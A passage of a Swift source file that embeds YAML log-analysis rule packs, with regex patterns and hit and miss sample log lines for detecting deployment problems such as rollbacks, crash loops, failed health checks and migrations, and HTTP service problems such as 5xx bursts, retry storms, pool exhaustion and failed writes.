/// The packs of rules/packs as they are built in. Made by `./dev packs`; a test holds that the two are equal.
package enum EmbeddedPacks {
  package static let all: [(name: String, text: String)] = [
    ("deploy", deploy),
    ("http", http),
    ("python-web", pythonWeb),
    ("runtime", runtime),
    ("security", security),
  ]

  private static let deploy = ##"""
    pack: deploy
    title: Releases and starts
    description: New releases, rollbacks, starts that fail, health checks, migrations, configuration

    rules:
      # What happened when: notes that explain what other rules find

      - id: rollout
        title: A new release is rolled out
        severity: P3
        status: stable
        pattern: >-
          (?i)^(?:rollout|deploy(?:ing|ment)?)(?: (?:of|started|begun|version|release)\b| \w+=|$)|^(?:release|version) \S+
          (?:deployed|released)\b|^deployed (?:release|version)
        tags: [release, timeline]
        samples:
          hit:
            - '2026-11-23 06:49:49,986 INFO [deploy] [-] rollout release=v2 from_pct=10 to_pct=50'
            - '2026-11-23 06:49:49,986 INFO [deploy] [-] deployment started version=2026.11.3'
          miss:
            - '2026-11-23 06:49:49,986 INFO [deploy] [-] deployment is allowed between 9 and 17'

      - id: rollback
        title: A release is taken back
        severity: P2
        status: stable
        pattern: >-
          ^[Rr]oll(?:back|ing back|ed back)(?: (?:to|of) (?:release|version|revision)\b| \w+=|$)|\bdeployment\S* (?:was
          )?rolled back\b|^Rollback was a success
        where: 'not (logger ~ "(?i)sql|(^|\.)db")'
        message: 'a release was taken back'
        tags: [release, timeline]
        samples:
          hit:
            - '2026-11-23 06:51:29,989 WARNING [deploy] [-] rollback release=v2 from_pct=100 to_pct=0'
            - '2026-11-23 06:51:29,989 INFO [ops] [-] deployment.apps/web rolled back'
          miss:
            - '2026-11-23 06:51:29,989 INFO [sqlalchemy.engine.Engine] [-] ROLLBACK'
            - '2026-11-23 06:51:29,989 INFO [orders] [-] transaction rolled back'

      - id: process-started
        title: A process started
        severity: P3
        status: stable
        pattern: >-
          ^Started server process \[|^Starting gunicorn \d|^Starting development server at|^[Ss]tarting(?: \w+=|$)|^Started
          \S+ in [\d.]+ seconds|^Server listening (?:on|at)\b
        message: 'the service started'
        tags: [start, timeline]
        samples:
          hit:
            - 'INFO:     Started server process [26313]'
            - '[2026-11-23 06:50:48 +0000] [7] [INFO] Starting gunicorn 21.2.0'
            - '2026-11-23 06:47:54,777 INFO [app] [-] starting pid=7 release=v1'
          miss:
            - '2026-11-23 06:50:48,123 INFO [jobs] [-] job started job=expire'
            - 'INFO:     Finished server process [26313]'

      - id: crash-loop
        title: The service starts over and over
        severity: P1
        status: stable
        correlation:
          type: event_count
          rules: [process-started]
          timespan: 5m
          condition: {gte: 5}
        generate: true
        message: '{count} starts within 5 minutes'
        tags: [start, crash]
        falsepositives: ['logs of many instances in one file, while they are all restarted']
        samples:
          hit:
            - |
              2026-11-23 06:47:54,777 INFO [app] [-] starting pid=7 release=v1
              2026-11-23 06:48:24,777 INFO [app] [-] starting pid=9 release=v1
              2026-11-23 06:48:54,777 INFO [app] [-] starting pid=12 release=v1
              2026-11-23 06:49:34,777 INFO [app] [-] starting pid=15 release=v1
              2026-11-23 06:50:24,777 INFO [app] [-] starting pid=21 release=v1
          miss:
            - |
              2026-11-23 06:47:54,777 INFO [app] [-] starting pid=7 release=v1
              2026-11-23 07:48:24,777 INFO [app] [-] starting pid=9 release=v2

      # Starts that fail

      - id: startup-failed
        title: The application cannot start
        severity: P0
        status: stable
        pattern: '^Application startup failed\. Exiting\.|^Error loading ASGI app\.|^APPLICATION FAILED TO START'
        tags: [start, uvicorn]
        samples:
          hit:
            - 'ERROR:    Application startup failed. Exiting.'
            - 'ERROR:    Error loading ASGI app. Could not import module "app.main".'
          miss:
            - 'INFO:     Application startup complete.'

      - id: import-failed
        title: A module is missing
        description: Usually the image was built without it, or the code moved.
        severity: P1
        status: stable
        pattern: '^[ |+]*(?:ModuleNotFoundError: No module named|ImportError: cannot import name) ''(?<name>[^'']+)'''
        message: '{name} cannot be imported'
        group-by: [name]
        tags: [start, python, release]
        falsepositives: ['optional modules whose absence is only logged']
        samples:
          hit:
            - 'ModuleNotFoundError: No module named ''app.billing'''
            - 'ImportError: cannot import name ''Cart'' from ''app.models'' (/srv/app/models.py)'
          miss:
            - '2026-11-23 06:50:48,123 INFO [app] [-] module app.billing is off'

      - id: config-missing
        title: Configuration is missing or wrong
        severity: P1
        status: stable
        pattern: >-
          \bvalidation errors? for \w*(?:Settings|Config)\b|\bImproperlyConfigured: |^KeyError:
          '[A-Z]+_[A-Z0-9_]+'$|(?i)\bmissing (?:required )?environment variable|\benvironment variable \S+ (?:is )?(?:not
          set|missing|required|must be set)
        tags: [start, configuration]
        samples:
          hit:
            - 'pydantic_core._pydantic_core.ValidationError: 2 validation errors for Settings'
            - 'django.core.exceptions.ImproperlyConfigured: The SECRET_KEY setting must not be empty.'
            - '2026-11-23 06:50:48,123 ERROR [app] [-] environment variable DATABASE_URL is not set'
            - 'KeyError: ''DATABASE_URL'''
          miss:
            - '2026-11-23 06:50:48,123 INFO [app] [-] environment variable LOG_LEVEL is set'
            - 'pydantic_core._pydantic_core.ValidationError: 1 validation error for Order'
            - 'KeyError: ''order_id'''

      # Health checks, as orchestrators and the service itself tell them

      - id: health-check-failed
        title: A health check failed
        severity: P2
        status: stable
        pattern: >-
          (?i)\b(?:readiness|liveness|startup) probe failed\b|\bhealth[ -]?checks? (?:has |have )?failed\b|\bfailed
          health[ -]?checks?\b|\bLayer[467] (?:check failed|timeout|wrong status|connection problem)
        tags: [health, kubernetes, haproxy]
        samples:
          hit:
            - 'Readiness probe failed: HTTP probe failed with statuscode: 503'
            - 'Nov 23 06:47:55 lb haproxy[7]: Server app/web1 is DOWN, reason: Layer4 connection problem'
            - '2026-11-23 06:50:48,123 ERROR [app] [-] health check failed: database'
          miss:
            - 'Nov 23 06:47:55 lb haproxy[7]: Server app/web1 is UP, reason: Layer7 check passed, code: 200'
            - '2026-11-23 06:50:48,123 INFO [app] [-] health check passed'

      - id: health-route-failed
        title: The health route answered with an error
        severity: P2
        status: stable
        on: path
        pattern: '^/(?:health|ready|live|ping|status)(?:z|check|ness)?/?$|^/actuator/health'
        where: 'status >= 500'
        message: '{path} answered {status}'
        group-by: [path]
        tags: [health, http]
        samples:
          hit:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /healthz HTTP/1.1" 503 12 "-" "kube-probe/1.31"'
          miss:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /healthz HTTP/1.1" 200 12 "-" "kube-probe/1.31"'
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /health-tips/7 HTTP/1.1" 500 12 "-" "curl/8"'

      - id: health-failing
        title: Health checks fail, again and again
        severity: P1
        status: stable
        correlation:
          type: event_count
          rules: [health-check-failed, health-route-failed]
          timespan: 2m
          condition: {gte: 3}
        generate: true
        message: '{count} health checks failed within 2 minutes'
        tags: [health]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,123 ERROR [app] [-] health check failed: database
              2026-11-23 06:50:58,123 ERROR [app] [-] health check failed: database
              2026-11-23 06:51:08,123 ERROR [app] [-] health check failed: database
          miss:
            - |
              2026-11-23 06:50:48,123 ERROR [app] [-] health check failed: database
              2026-11-23 06:50:58,123 INFO [app] [-] health check passed
              2026-11-23 06:57:08,123 ERROR [app] [-] health check failed: database

      # Orchestrators

      - id: orchestrator-gave-up
        title: What runs the service cannot start it
        description: >-
          Kubernetes, Helm, systemd. A container that crashes at each start, an image that is not there, a rollout that
          stands still.
        severity: P1
        status: stable
        pattern: >-
          CrashLoopBackOff|Back-off restarting failed container|Start request repeated too
          quickly|ImagePullBackOff|ErrImagePull|Failed to pull image "|exceeded its progress deadline|UPGRADE FAILED:
          |\bdeployment failed\b
        tags: [start, crash, release, kubernetes, helm, systemd]
        samples:
          hit:
            - 'Warning  BackOff  kubelet  Back-off restarting failed container app in pod web-7d9f_default'
            - 'Nov 23 06:47:54 host systemd[1]: app.service: Start request repeated too quickly.'
            - 'Warning  Failed  kubelet  Failed to pull image "example.org/web:2026.11.3": not found'
            - 'error: deployment "web" exceeded its progress deadline'
            - 'Error: UPGRADE FAILED: timed out waiting for the condition'
          miss:
            - 'Normal  Started  kubelet  Started container app'
            - 'Normal  Pulled  kubelet  Successfully pulled image "example.org/web:2026.11.3" in 2.1s'
            - 'deployment "web" successfully rolled out'

      - id: shutdown-not-graceful
        title: A process did not end in the time it had
        description: Requests that it was at work on were cut off.
        severity: P2
        status: stable
        pattern: >-
          timeout graceful shutdown exceeded|State '(?:stop-sigterm|final-sigterm)' timed out|[Gg]raceful shutdown (?:timed
          out|failed)
        tags: [stop, uvicorn, systemd]
        samples:
          hit:
            - 'ERROR:    Cancel 3 running task(s), timeout graceful shutdown exceeded'
            - 'Nov 23 06:47:54 host systemd[1]: app.service: State ''stop-sigterm'' timed out. Killing.'
          miss:
            - 'INFO:     Application shutdown complete.'

      # Migrations

      - id: migration-failed
        title: A migration cannot run
        severity: P1
        status: stable
        pattern: >-
          Can't locate revision identified by '|Target database is not up to date\.|Multiple head revisions are
          present|InconsistentMigrationHistory|Conflicting migrations detected|(?i)\bmigration (?:\S+ )?failed\b
        tags: [release, database, alembic, django]
        samples:
          hit:
            - 'alembic.util.exc.CommandError: Can''t locate revision identified by ''4711abcd'''
            - 'CommandError: Conflicting migrations detected; multiple leaf nodes in the migration graph'
          miss:
            - 'INFO  [alembic.runtime.migration] Running upgrade 4711 -> 4712, add orders'

      - id: schema-behind
        title: The code wants a table or column that is not there
        description: The release came before its migration, or the migration did not run.
        severity: P1
        status: stable
        pattern: >-
          \b(?:UndefinedTable|UndefinedColumn)(?:Error)?\b|\bno such (?:table|column): \w|\b(?:relation|column) "[^"]+"
          (?:of relation "[^"]+" )?does not exist|\b(?:1146|1054), ["'](?:Table|Unknown column) '
        tags: [release, database]
        samples:
          hit:
            - 'psycopg2.errors.UndefinedColumn: column "plate" of relation "cars" does not exist'
            - 'sqlite3.OperationalError: no such table: orders'
            - 'pymysql.err.ProgrammingError: (1146, "Table ''shop.orders'' doesn''t exist")'
          miss:
            - '2026-11-23 06:50:48,123 INFO [orders] [-] order 7 does not exist'
    """##

  private static let http = ##"""
    pack: http
    title: HTTP services and what they depend on
    description: Failing and slow routes, retries, pools, upstreams, proxies, writes that fail

    rules:
      # Requests. Most are the material of the correlations below, and no findings by themselves.

      - id: http-request
        title: A finished request
        severity: P3
        status: stable
        where: 'status >= 100'
        tags: [http]
        samples:
          hit:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET / HTTP/1.1" 200 12 "-" "curl/8"'
          miss:
            - '2026-11-23 06:50:48,123 INFO [access] [8165e189] started method=GET path=/orders'

      - id: http-5xx
        title: Requests that the service failed
        severity: P3
        status: stable
        where: 'status >= 500'
        message: '{route} answered {status}'
        group-by: [route]
        tags: [http, symptom]
        samples:
          hit:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET / HTTP/1.1" 502 12 "-" "curl/8"'
          miss:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET / HTTP/1.1" 404 12 "-" "curl/8"'

      - id: http-5xx-burst
        title: A route fails again and again
        severity: P1
        status: stable
        correlation:
          type: event_count
          rules: [http-5xx]
          group-by: [route]
          timespan: 10s
          condition: {gte: 25}
        generate: true
        message: '{route} failed {count} times within 10 s'
        tags: [http, symptom]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 ERROR [access] [a1] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,102 ERROR [access] [a2] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,103 ERROR [access] [a3] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,104 ERROR [access] [a4] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,105 ERROR [access] [a5] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,106 ERROR [access] [a6] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,107 ERROR [access] [a7] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,108 ERROR [access] [a8] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,109 ERROR [access] [a9] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,110 ERROR [access] [b0] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,111 ERROR [access] [b1] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,112 ERROR [access] [b2] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,113 ERROR [access] [b3] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,114 ERROR [access] [b4] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,115 ERROR [access] [b5] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,116 ERROR [access] [b6] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,117 ERROR [access] [b7] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,118 ERROR [access] [b8] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,119 ERROR [access] [b9] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,120 ERROR [access] [c0] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,121 ERROR [access] [c1] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,122 ERROR [access] [c2] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,123 ERROR [access] [c3] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,124 ERROR [access] [c4] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,125 ERROR [access] [c5] finished method=GET path=/orders status=503 duration_ms=7
          miss:
            - |
              2026-11-23 06:50:48,101 ERROR [access] [a1] finished method=GET path=/orders status=500 duration_ms=7
              2026-11-23 06:50:52,102 ERROR [access] [a2] finished method=GET path=/orders status=500 duration_ms=7
              2026-11-23 06:51:48,103 ERROR [access] [a3] finished method=GET path=/orders status=500 duration_ms=7

      - id: http-half-failing
        title: Half of all requests fail
        description: The median of the statuses within a minute is a 5xx. The service is as good as down.
        severity: P1
        status: stable
        correlation:
          type: value_percentile
          rules: [http-request]
          timespan: 30s
          condition: {field: status, percentile: 50, gte: 500}
        message: 'at least half of all requests fail'
        tags: [http, symptom]
        falsepositives:
          - a log with very few requests
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 ERROR [access] [a1] finished method=GET path=/orders status=503 duration_ms=7
              2026-11-23 06:50:48,102 INFO [access] [a2] finished method=GET path=/carts status=200 duration_ms=7
              2026-11-23 06:50:48,103 ERROR [access] [a3] finished method=GET path=/users status=503 duration_ms=7
              2026-11-23 06:50:48,104 ERROR [access] [a4] finished method=GET path=/orders status=500 duration_ms=7
          miss:
            - |
              2026-11-23 06:50:48,101 INFO [access] [a1] finished method=GET path=/carts status=200 duration_ms=7
              2026-11-23 06:50:48,102 INFO [access] [a2] finished method=GET path=/carts status=200 duration_ms=7
              2026-11-23 06:50:48,103 ERROR [access] [a3] finished method=GET path=/users status=503 duration_ms=7

      - id: http-route-failing
        title: A route fails more often than it works
        severity: P2
        status: stable
        correlation:
          type: value_percentile
          rules: [http-request]
          group-by: [route]
          timespan: 1m
          condition: {field: status, percentile: 50, gte: 500}
        message: '{route} fails more often than it works'
        tags: [http, symptom]
        falsepositives:
          - a route that is rarely called
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 ERROR [access] [a1] finished method=GET path=/orders status=500 duration_ms=7
              2026-11-23 06:50:49,102 ERROR [access] [a2] finished method=GET path=/orders status=500 duration_ms=7
              2026-11-23 06:50:50,103 INFO [access] [a3] finished method=GET path=/orders status=200 duration_ms=7
          miss:
            - |
              2026-11-23 06:50:48,101 INFO [access] [a1] finished method=GET path=/orders status=200 duration_ms=7
              2026-11-23 06:50:49,102 INFO [access] [a2] finished method=GET path=/orders status=200 duration_ms=7
              2026-11-23 06:50:50,103 ERROR [access] [a3] finished method=GET path=/orders status=500 duration_ms=7

      - id: http-slow-route
        title: A slow route
        description: One request in twenty takes longer than 2 s.
        severity: P2
        status: stable
        correlation:
          type: value_percentile
          rules: [http-request]
          group-by: [route]
          timespan: 5m
          condition: {field: duration, percentile: 95, gt: 2s}
        message: '{route}: one request in twenty takes longer than 2 s'
        tags: [http, slow, symptom]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 INFO [access] [a1] finished method=GET path=/export status=200 duration_ms=2100
              2026-11-23 06:50:52,101 INFO [access] [a2] finished method=GET path=/export status=200 duration_ms=3400
          miss:
            - |
              2026-11-23 06:50:48,101 INFO [access] [a1] finished method=GET path=/export status=200 duration_ms=400
              2026-11-23 06:50:52,101 INFO [access] [a2] finished method=GET path=/export status=200 duration_ms=1900

      - id: http-unfinished
        title: Requests that began and never ended
        description: The process died, the request hangs, or the log was cut.
        severity: P3
        status: stable
        trace:
          where: 'unfinished >= 1'
        tags: [http, symptom]
        falsepositives: ['requests that were open when the log ended']
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 INFO [access] [8165e189] started method=GET path=/orders
              2026-11-23 06:50:48,110 INFO [access] [c0ffee01] started method=GET path=/orders
              2026-11-23 06:50:48,130 INFO [access] [c0ffee01] finished method=GET path=/orders status=200 duration_ms=20
          miss:
            - |
              2026-11-23 06:50:48,110 INFO [access] [c0ffee01] started method=GET path=/orders
              2026-11-23 06:50:48,130 INFO [access] [c0ffee01] finished method=GET path=/orders status=200 duration_ms=20

      - id: http-429
        title: A request that was one too many
        severity: P3
        status: stable
        where: 'status = 429'
        group-by: [route]
        tags: [http, limit]
        samples:
          hit:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET / HTTP/1.1" 429 12 "-" "curl/8"'
          miss:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET / HTTP/1.1" 403 12 "-" "curl/8"'

      - id: http-429-burst
        title: Many requests are turned away by a rate limit
        severity: P2
        status: stable
        correlation:
          type: event_count
          rules: [http-429]
          group-by: [route]
          timespan: 10s
          condition: {gte: 5}
        message: '{route} turned {count} requests away'
        tags: [http, limit]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 WARNING [access] [a1] finished method=GET path=/search status=429 duration_ms=1
              2026-11-23 06:50:48,102 WARNING [access] [a2] finished method=GET path=/search status=429 duration_ms=1
              2026-11-23 06:50:48,103 WARNING [access] [a3] finished method=GET path=/search status=429 duration_ms=1
              2026-11-23 06:50:48,104 WARNING [access] [a4] finished method=GET path=/search status=429 duration_ms=1
              2026-11-23 06:50:48,105 WARNING [access] [a5] finished method=GET path=/search status=429 duration_ms=1
          miss:
            - |
              2026-11-23 06:50:48,101 WARNING [access] [a1] finished method=GET path=/search status=429 duration_ms=1
              2026-11-23 06:51:48,102 WARNING [access] [a2] finished method=GET path=/search status=429 duration_ms=1

      - id: http-client-gone
        title: A client went away before its answer
        severity: P3
        status: stable
        pattern: '(?i)client (?:has )?(?:disconnected|(?:prematurely )?closed (?:the )?connection)|ClientDisconnect\b'
        tags: [http, client]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 INFO [access] [8165e189] client disconnected after 3.1 s'
            - '2026/11/23 06:47:55 [info] 7#7: *1 client prematurely closed connection while reading response header'
            - 'starlette.requests.ClientDisconnect'
          miss:
            - '2026-11-23 06:50:48,123 INFO [access] [8165e189] client connected'

      - id: http-499
        title: nginx notes a client that did not wait
        severity: P3
        status: stable
        where: 'status = 499'
        tags: [http, client, nginx]
        samples:
          hit:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET / HTTP/1.1" 499 0 "-" "curl/8"'
          miss:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET / HTTP/1.1" 404 0 "-" "curl/8"'

      - id: http-clients-give-up
        title: Many clients do not wait for their answers
        description: Usually the service has become slow, or an instance hangs.
        severity: P2
        status: stable
        correlation:
          type: event_count
          rules: [http-499, http-client-gone]
          timespan: 10s
          condition: {gte: 5}
        message: '{count} clients went away before their answers'
        tags: [http, client]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 INFO [access] [a1] client disconnected
              2026-11-23 06:50:48,102 INFO [access] [a2] client disconnected
              2026-11-23 06:50:48,103 INFO [access] [a3] client disconnected
              2026-11-23 06:50:48,104 INFO [access] [a4] client disconnected
              2026-11-23 06:50:48,105 INFO [access] [a5] client disconnected
          miss:
            - |
              2026-11-23 06:50:48,101 INFO [access] [a1] client disconnected
              2026-11-23 06:55:48,102 INFO [access] [a2] client disconnected

      # What the service calls: retries, giving up, circuit breakers

      - id: upstream-retry
        title: A call was tried again
        severity: P3
        status: stable
        pattern: '(?i)\b(?:will|going to) (?:be )?retr(?:y|ied)\b|\bretrying\b|\bretry(?: attempt)? #?\d'
        group-by: [logger]
        tags: [upstream, retry]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 WARNING [mail.client] [8165e189] call failed, will retry attempt=1'
            - '2026-11-23 06:50:48,123 WARNING [mail.client] [8165e189] Retrying in 2.0 seconds as it raised ReadTimeout'
          miss:
            - '2026-11-23 06:50:48,123 INFO [mail.client] [8165e189] retries are off'

      - id: upstream-retry-storm
        title: Retry storm
        description: >-
          Calls fail and are tried again faster than they are answered: retries are now a load of their own. Fewer attempts,
          longer pauses with jitter, and a limit on all retries together.
        severity: P1
        status: stable
        correlation:
          type: event_count
          rules: [upstream-retry]
          group-by: [logger]
          timespan: 10s
          condition: {gte: 15}
        generate: true
        message: '{logger}: {count} retries within 10 s'
        tags: [upstream, retry]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 WARNING [mail.client] [a1] call failed, will retry attempt=1
              2026-11-23 06:50:48,102 WARNING [mail.client] [a1] call failed, will retry attempt=2
              2026-11-23 06:50:48,103 WARNING [mail.client] [a1] call failed, will retry attempt=3
              2026-11-23 06:50:48,104 WARNING [mail.client] [a1] call failed, will retry attempt=4
              2026-11-23 06:50:48,105 WARNING [mail.client] [a1] call failed, will retry attempt=5
              2026-11-23 06:50:48,201 WARNING [mail.client] [a2] call failed, will retry attempt=1
              2026-11-23 06:50:48,202 WARNING [mail.client] [a2] call failed, will retry attempt=2
              2026-11-23 06:50:48,203 WARNING [mail.client] [a2] call failed, will retry attempt=3
              2026-11-23 06:50:48,204 WARNING [mail.client] [a2] call failed, will retry attempt=4
              2026-11-23 06:50:48,205 WARNING [mail.client] [a2] call failed, will retry attempt=5
              2026-11-23 06:50:48,301 WARNING [mail.client] [a3] call failed, will retry attempt=1
              2026-11-23 06:50:48,302 WARNING [mail.client] [a3] call failed, will retry attempt=2
              2026-11-23 06:50:48,303 WARNING [mail.client] [a3] call failed, will retry attempt=3
              2026-11-23 06:50:48,304 WARNING [mail.client] [a3] call failed, will retry attempt=4
              2026-11-23 06:50:48,305 WARNING [mail.client] [a3] call failed, will retry attempt=5
          miss:
            - |
              2026-11-23 06:50:48,101 WARNING [mail.client] [a1] call failed, will retry attempt=1
              2026-11-23 06:50:48,102 WARNING [mail.client] [a1] call failed, will retry attempt=2
              2026-11-23 06:50:49,103 WARNING [mail.client] [b2] call failed, will retry attempt=1

      - id: trace-many-retries
        title: One request needed many attempts
        severity: P2
        status: stable
        trace:
          where: 'count(message ~ "(?i)will retry|retrying") >= 4'
        tags: [upstream, retry]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 WARNING [mail.client] [8165e189] call failed, will retry attempt=1
              2026-11-23 06:50:48,102 WARNING [mail.client] [8165e189] call failed, will retry attempt=2
              2026-11-23 06:50:48,103 WARNING [mail.client] [8165e189] call failed, will retry attempt=3
              2026-11-23 06:50:48,104 WARNING [mail.client] [8165e189] call failed, will retry attempt=4
          miss:
            - |
              2026-11-23 06:50:48,101 WARNING [mail.client] [8165e189] call failed, will retry attempt=1
              2026-11-23 06:50:48,102 WARNING [mail.client] [8165e189] call failed, will retry attempt=2

      - id: upstream-gave-up
        title: A call failed for good
        severity: P2
        status: stable
        pattern: '(?i)\b(?:gave|giving) up\b|\bgiven up\b|retries exhausted|exhausted all (?:\w+ )?(?:retries|attempts)'
        where: 'level >= warning'
        message: '{logger} gave up on a call'
        group-by: [logger]
        tags: [upstream, retry]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 ERROR [mail.client] [8165e189] upstream gave up op=send attempts=3 error=timeout'
            - '2026-11-23 06:50:48,123 ERROR [mail.client] [8165e189] giving up after 3 attempts'
          miss:
            - '2026-11-23 06:50:48,123 INFO [queue] [-] place in the queue given up by the user'
            - '2026-11-23 06:50:48,123 WARNING [mail.client] [8165e189] call failed, will retry attempt=1'

      - id: upstream-failing
        title: Calls to another service fail for good
        description: All attempts were used up, several times in a row. What needs that service fails.
        severity: P1
        status: stable
        correlation:
          type: event_count
          rules: [upstream-gave-up]
          group-by: [logger]
          timespan: 30s
          condition: {gte: 3}
        generate: true
        message: '{logger} gave up on {count} calls within 30 s'
        tags: [upstream, retry]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 ERROR [mail.client] [a1] upstream gave up op=send attempts=3
              2026-11-23 06:50:49,101 ERROR [mail.client] [a2] upstream gave up op=send attempts=3
              2026-11-23 06:50:52,101 ERROR [mail.client] [a3] upstream gave up op=send attempts=3
          miss:
            - |
              2026-11-23 06:50:48,101 ERROR [mail.client] [a1] upstream gave up op=send attempts=3
              2026-11-23 06:52:49,101 ERROR [mail.client] [a2] upstream gave up op=send attempts=3

      - id: circuit-breaker-open
        title: A circuit breaker is open
        description: Calls are no longer even tried.
        severity: P1
        status: stable
        pattern: '(?i)circuit ?breaker\b.{0,80}\bopen(?:ed)?\b|CircuitBreakerError|CallNotPermittedException'
        tags: [upstream]
        samples:
          hit:
            - 'CircuitBreaker ''mail'' is OPEN and does not permit further calls'
            - 'pybreaker.CircuitBreakerError: Failures threshold reached, circuit breaker opened'
            - '2026-11-23 06:50:48,123 WARNING [mail.client] [-] circuit breaker opened name=mail'
          miss:
            - '2026-11-23 06:50:48,123 INFO [mail.client] [-] circuit breaker closed name=mail'

      # Pools, of whatever kind

      - id: pool-exhausted
        title: A pool had nothing left to give
        severity: P2
        status: stable
        pattern: >-
          (?i)\bpool (?:is |was )?(?:exhausted|empty|depleted|full\b)|no (?:free|available|idle|database)
          connections?\b|connection is not available, request timed out after|couldn't get a connection after|could not get
          a connection from the pool|\bPoolTimeout\b
        where: 'level >= warning'
        message: '{logger}: a pool had nothing left'
        group-by: [logger]
        tags: [pool]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 ERROR [db] [8165e189] pool exhausted wait_ms=750.2 in_use=10 size=10'
            - 'WARNING:urllib3.connectionpool:Connection pool is full, discarding connection: example.org'
            - >-
              2026-11-23 06:50:48.123  ERROR 7 --- [main] c.e.App : HikariPool-1 - Connection is not available, request
              timed out after 30000ms.
            - '2026-11-23 06:50:48,123 ERROR [db] [-] psycopg_pool.PoolTimeout: couldn''t get a connection after 30.00 sec'
          miss:
            - '2026-11-23 06:50:48,123 INFO [db] [-] pool stats in_use=10 size=10 waiting=0'
            - '2026-11-23 06:50:48,123 DEBUG [db] [-] connection acquired conn=7 wait_ms=0.1'

      - id: pool-exhaustion
        title: A pool is exhausted
        description: >-
          Requests wait for a connection and do not get one. Look for connections that are held or never given back, before
          making the pool larger.
        severity: P1
        status: stable
        correlation:
          type: event_count
          rules: [pool-exhausted]
          group-by: [logger]
          timespan: 30s
          condition: {gte: 5}
        generate: true
        message: '{logger}: nothing left in the pool, {count} times within 30 s'
        tags: [pool]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 ERROR [db] [a1] pool exhausted wait_ms=750.2 in_use=10 size=10
              2026-11-23 06:50:48,201 ERROR [db] [a2] pool exhausted wait_ms=750.1 in_use=10 size=10
              2026-11-23 06:50:48,301 ERROR [db] [a3] pool exhausted wait_ms=750.0 in_use=10 size=10
              2026-11-23 06:50:48,401 ERROR [db] [a4] pool exhausted wait_ms=750.3 in_use=10 size=10
              2026-11-23 06:50:48,501 ERROR [db] [a5] pool exhausted wait_ms=750.2 in_use=10 size=10
          miss:
            - |
              2026-11-23 06:50:48,101 ERROR [db] [a1] pool exhausted wait_ms=750.2 in_use=10 size=10
              2026-11-23 06:51:48,201 ERROR [db] [a2] pool exhausted wait_ms=750.1 in_use=10 size=10

      - id: pool-leak
        title: A connection was not given back
        severity: P2
        status: stable
        pattern: >-
          idle[ -]in[ -]transaction|Apparent connection leak detected|arbage collector is trying to clean up
          non-checked-in connection|Unclosed (?:connection|client session|connector)
        where: 'level >= warning'
        message: '{logger}: connections are not given back'
        group-by: [logger]
        tags: [pool, leak]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 WARNING [db] [-] reclaimed connection idle in transaction conn=7 age_s=30.2'
            - '2026-11-23 06:50:48,123 ERROR [asyncio] [-] Unclosed client session'
          miss:
            - '2026-11-23 06:50:48,123 INFO [db] [-] 0 connections idle in transaction'

      # Writes, payments, queries

      - id: write-failed
        title: A write failed
        severity: P2
        status: stable
        on: message
        pattern: >-
          (?i)\b(?:save|store|write|update|insert|commit|delete|upload)\b(?: \w+){0,3}
          failed\b|\b(?:failed|unable|could not) (?:to )?(?:save|store|write|update|insert|persist|commit|delete|upload)\b
        where: 'level >= error'
        message: '{logger}: a write failed'
        group-by: [logger]
        tags: [data]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 ERROR [profile] [8165e189] profile save failed user_id=7'
            - '2026-11-23 06:50:48,123 ERROR [carts] [8165e189] could not update cart 7'
          miss:
            - '2026-11-23 06:50:48,123 INFO [profile] [8165e189] profile saved user_id=7'
